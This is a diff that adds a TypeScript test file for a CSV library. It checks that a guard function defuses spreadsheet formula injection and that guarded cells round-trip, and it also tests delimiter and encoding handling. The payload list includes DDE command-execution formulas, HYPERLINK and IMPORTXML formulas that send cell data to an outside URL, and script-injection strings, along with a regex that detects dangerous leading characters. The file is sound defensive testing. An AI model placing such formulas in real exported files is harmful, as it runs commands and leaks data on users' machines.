@@ -1,0 +1,129 @@
+/** Cells: whatever stands in them comes back, for us and for another reader, and no spreadsheet runs it. */
+import { parse } from 'csv-parse/sync';
+import fc from 'fast-check';
+import { describe, expect, test } from 'vitest';
+import { decode } from '../../../src/io/csv/decode.js';
+import { guarded, unguarded } from '../../../src/io/csv/guard.js';
+import { readCsv } from '../../../src/io/csv/read-csv.js';
+import { writeCsv } from '../../../src/io/csv/write-csv.js';
+
+/** Beginnings, middles and wholes that spreadsheets, databases and browsers have been made to run. */
+const payloads = [
+  ...[
+    '=',
+    '+',
+    '-',
+    '@',
+    '\t',
+    '\r',
+    '\n',
+    '\uFF1D',
+    '\uFF0B',
+    '\uFF0D',
+    '\uFF20',
+    "'",
+    "''",
+    '"',
+    '""',
+    ',',
+    ';',
+    '#',
+  ],
+  '=1+1',
+  '=HYPERLINK("http://example.com?x="&A1,"click")',
+  "=cmd|' /C calc'!A0",
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '=IMPORTXML(CONCAT("http://example.com?v=",CONCATENATE(A2:E2)),"//a/a10")',
+  '=DDE("cmd";"/C calc";"!A0")',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '",=1+1,"',
+  '"\n=1+1',
+  "'=1+1",
+  "''=1+1",
+  '-5',
+  '+1 555',
+  '1;=1+1',
+  '<script>alert(1)</script>',
+  '</td><img src=x onerror=alert(1)>',
+  '\0',
+  '\uFEFFa',
+  ' leading and trailing ',
+  '\u2028\u2029',
+  'é🩺مسار',
+  '',
+];
+
+const dangerous = /^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/;
+
+describe('the guard', () => {
+  test.each(payloads.map((payload) => [JSON.stringify(payload), payload]))('%s', (_, payload) => {
+    expect(unguarded(guarded(payload))).toBe(payload);
+    expect(guarded(payload)).not.toMatch(dangerous);
+    const [row] = parse(writeCsv([[guarded(payload), 'end']])) as string[][];
+    expect(row).toEqual([guarded(payload), 'end']);
+    expect(readCsv(writeCsv([[guarded(payload), 'end']])).rows).toEqual([[guarded(payload), 'end']]);
+  });
+  test('random texts come back, and none begins like a formula', () => {
+    const text = fc.oneof(
+      fc.string({ unit: 'binary' }),
+      fc.array(fc.constantFrom(...payloads)).map((parts) => parts.join('')),
+    );
+    fc.assert(
+      fc.property(text, (each) => {
+        expect(unguarded(guarded(each))).toBe(each);
+        expect(guarded(each)).not.toMatch(dangerous);
+      }),
+      { seed: 1, numRuns: 10_000 },
+    );
+  });
+  test('what people write with an apostrophe of their own stays', () => {
+    expect(unguarded("'tis")).toBe("'tis");
+  });
+});
+
+test('rows of any cells are read again, by us and by another reader', () => {
+  const cell = fc.oneof(fc.string({ unit: 'binary' }), fc.constantFrom(...payloads)).map(guarded);
+  fc.assert(
+    fc.property(
+      fc.array(fc.array(cell, { minLength: 2, maxLength: 2 }), { minLength: 1, maxLength: 5 }),
+      (rows) => {
+        const named = [['a', 'b'], ...rows];
+        const text = writeCsv(named);
+        expect(readCsv(text)).toEqual({ rows: named, misquoted: [] });
+        expect(parse(text)).toEqual(named);
+      },
+    ),
+    { seed: 2, numRuns: 3000 },
+  );
+});
+
+describe('files as others write them', () => {
+  test.each([
+    ['commas', 'a,b\n1,2\n'],
+    ['semicolons', 'a;b\n1;2'],
+    ['tabs', 'a\tb\r\n1\t2\r\n'],
+    ['a mark in front', '\uFEFFa,b\n1,2'],
+    ['old line ends', 'a,b\r1,2'],
+  ])('%s', (_, text) => {
+    expect(readCsv(decode(text).text).rows).toEqual([
+      ['a', 'b'],
+      ['1', '2'],
+    ]);
+  });
+  test('quotes that do not match are told by their row', () => {
+    expect(readCsv('a,b\n1,"2\n3,4\n').misquoted).toEqual([2]);
+  });
+  test('bytes of Windows and of UTF-16', () => {
+    expect(decode(new Uint8Array([0x63, 0x61, 0x66, 0xe9]))).toEqual({
+      text: 'café',
+      encoding: 'windows-1252',
+    });
+    expect(decode(new Uint8Array([0xef, 0xbb, 0xbf, 0x63]))).toEqual({ text: 'c', encoding: 'utf-8' });
+    expect(decode(new Uint8Array([0xff, 0xfe, 0x63, 0]))).toEqual({ text: 'c', encoding: 'utf-16le' });
+    expect(decode(new Uint8Array([0xfe, 0xff, 0, 0x63]))).toEqual({ text: 'c', encoding: 'utf-16be' });
+  });
+});
